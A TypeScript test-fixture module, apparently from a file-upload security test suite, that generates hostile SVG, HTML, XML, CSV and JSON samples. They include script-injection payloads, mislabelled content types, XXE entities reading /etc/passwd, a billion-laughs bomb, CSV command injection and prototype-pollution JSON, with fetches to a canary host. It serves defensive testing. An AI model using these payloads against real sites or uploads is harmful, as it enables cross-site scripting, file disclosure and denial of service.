import { type Canary, payload, type SampleFile, text } from './sample-file.ts';

const svgHead =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90"';

/** SVG, HTML and XML that would run or fetch something where they are opened as a page. */
export function markup(canary: Canary): SampleFile[] {
  return [...svgs(canary), ...pages(canary), ...documents(canary)];
}

function svgs(canary: Canary): SampleFile[] {
  const run = payload(canary);
  const inside: [string, string][] = [
    ['script', `<script>${run}</script>`],
    ['cdata', `<script><![CDATA[${run}]]></script>`],
    ['script-href', `<script href="${canary}/x.js"/>`],
    ['image-error', `<image href="x" onerror="${run}"/>`],
    ['animate', `<animate onbegin="${run}" attributeName="x" dur="1s"/>`],
    [
      'foreign',
      `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${run}"/></body></foreignObject>`,
    ],
    ['link', `<a href="javascript:${run}"><rect width="90" height="90"/></a>`],
    ['use', `<use href="${canary}/x.svg#a"/>`],
    ['image', `<image href="${canary}/x.png" width="9" height="9"/>`],
    [
      'style',
      `<style>@import url("${canary}/x.css");rect{fill:url("${canary}/x.svg#a")}</style><rect width="9" height="9"/>`,
    ],
    [
      'frame',
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${run}&lt;/script&gt;"/></foreignObject>`,
    ],
  ];
  const made = inside.map(([what, content]) => svg(`svg-${what}.svg`, `${svgHead}>${content}</svg>`));
  const wide = Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from(`${svgHead}><script>${run}</script></svg>`, 'utf16le'),
  ]);
  return [
    ...made,
    svg('svg-onload.svg', `${svgHead} onload="${run}"></svg>`),
    svg('svg-called-png.png', `${svgHead} onload="${run}"></svg>`, 'image/png'),
    svg('svg-late.svg', `<?xml version="1.0"?><!--${' '.repeat(5_000)}-->${svgHead} onload="${run}"></svg>`),
    svg(
      'svg-entities.svg',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "${run}">]>${svgHead} onload="&y;">&x;</svg>`,
    ),
    svg('svg-laughs.svg', laughs(`${svgHead}>&l9;</svg>`)),
    svg('svg-deep.svg', `${svgHead}>${'<g>'.repeat(8_000)}</svg>`),
    { name: 'svg-wide.svg', claims: 'image/svg+xml', bytes: wide, is: 'image/svg+xml' },
  ];
}

const svg = (name: string, content: string, claims = 'image/svg+xml'): SampleFile => ({
  name,
  claims,
  bytes: text(content),
  is: 'image/svg+xml',
});

const laughs = (end: string) => {
  const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`);
  return `<!DOCTYPE svg [<!ENTITY l0 "ha">${entities.join('')}]>${end}`;
};

function pages(canary: Canary): SampleFile[] {
  const run = payload(canary);
  const page = (what: string, content: string, claims = 'text/html', name = `page-${what}.html`): SampleFile => ({
    name,
    claims,
    bytes: text(content),
    is: 'text/html',
  });
  return [
    page('script', `<!doctype html><script>${run}</script>`),
    page('called-png', `<html><script>${run}</script></html>`, 'image/png', 'page.png'),
    page('called-text', `<script>${run}</script>`, 'text/plain', 'page.txt'),
    page('called-pdf', `<body onload="${run}">`, 'application/pdf', 'page.pdf'),
    page('late', `${' \n'.repeat(2_000)}<HTML><IMG SRC=x ONERROR="${run}">`),
    page('refresh', `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`),
    page('base', `<base href="${canary}/"><link rel="stylesheet" href="x.css">`),
    page('frame', `<iframe srcdoc="<script>${run}</script>"></iframe>`),
    page('object', `<object data="data:text/html,<script>${run}</script>"></object>`),
    page('form', `<form action="${canary}/form"><input autofocus onfocus="${run}"></form>`),
    page('no-extension', `<script>${run}</script>`, '', 'page'),
    page('text-before', `An ordinary letter.\n\n<script>${run}</script>`, 'text/plain', 'letter.txt'),
    {
      name: 'utf7.html',
      claims: 'text/html; charset=utf-7',
      bytes: text(`+ADw-script+AD4-${run}+ADw-/script+AD4-`),
      is: 'text/plain',
    },
  ];
}

function documents(canary: Canary): SampleFile[] {
  const run = payload(canary);
  const xhtml = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`;
  const entity = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';
  const sheet = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}/x.xsl"?><a/>`;
  return [
    { name: 'page.xhtml', claims: 'application/xhtml+xml', bytes: text(xhtml), is: 'text/html' },
    { name: 'entity.xml', claims: 'text/xml', bytes: text(entity), is: 'application/xml' },
    { name: 'sheet.xml', claims: 'image/png', bytes: text(sheet), is: 'application/xml' },
    {
      name: 'letter.mht',
      claims: 'multipart/related',
      bytes: text('MIME-Version: 1.0', 'Content-Type: text/html', '', `<script>${run}</script>`),
      is: 'text/html',
    },
    { name: 'prices.csv', claims: 'text/html', bytes: text('=cmd|"/c calc"!A1,1', '@SUM(1),2'), is: 'text/plain' },
    { name: 'code.js', claims: 'text/javascript', bytes: text(run), is: 'text/plain' },
    { name: 'data.json', claims: 'application/json', bytes: text('{"__proto__":{"x":1}}'), is: 'text/plain' },
  ];
}
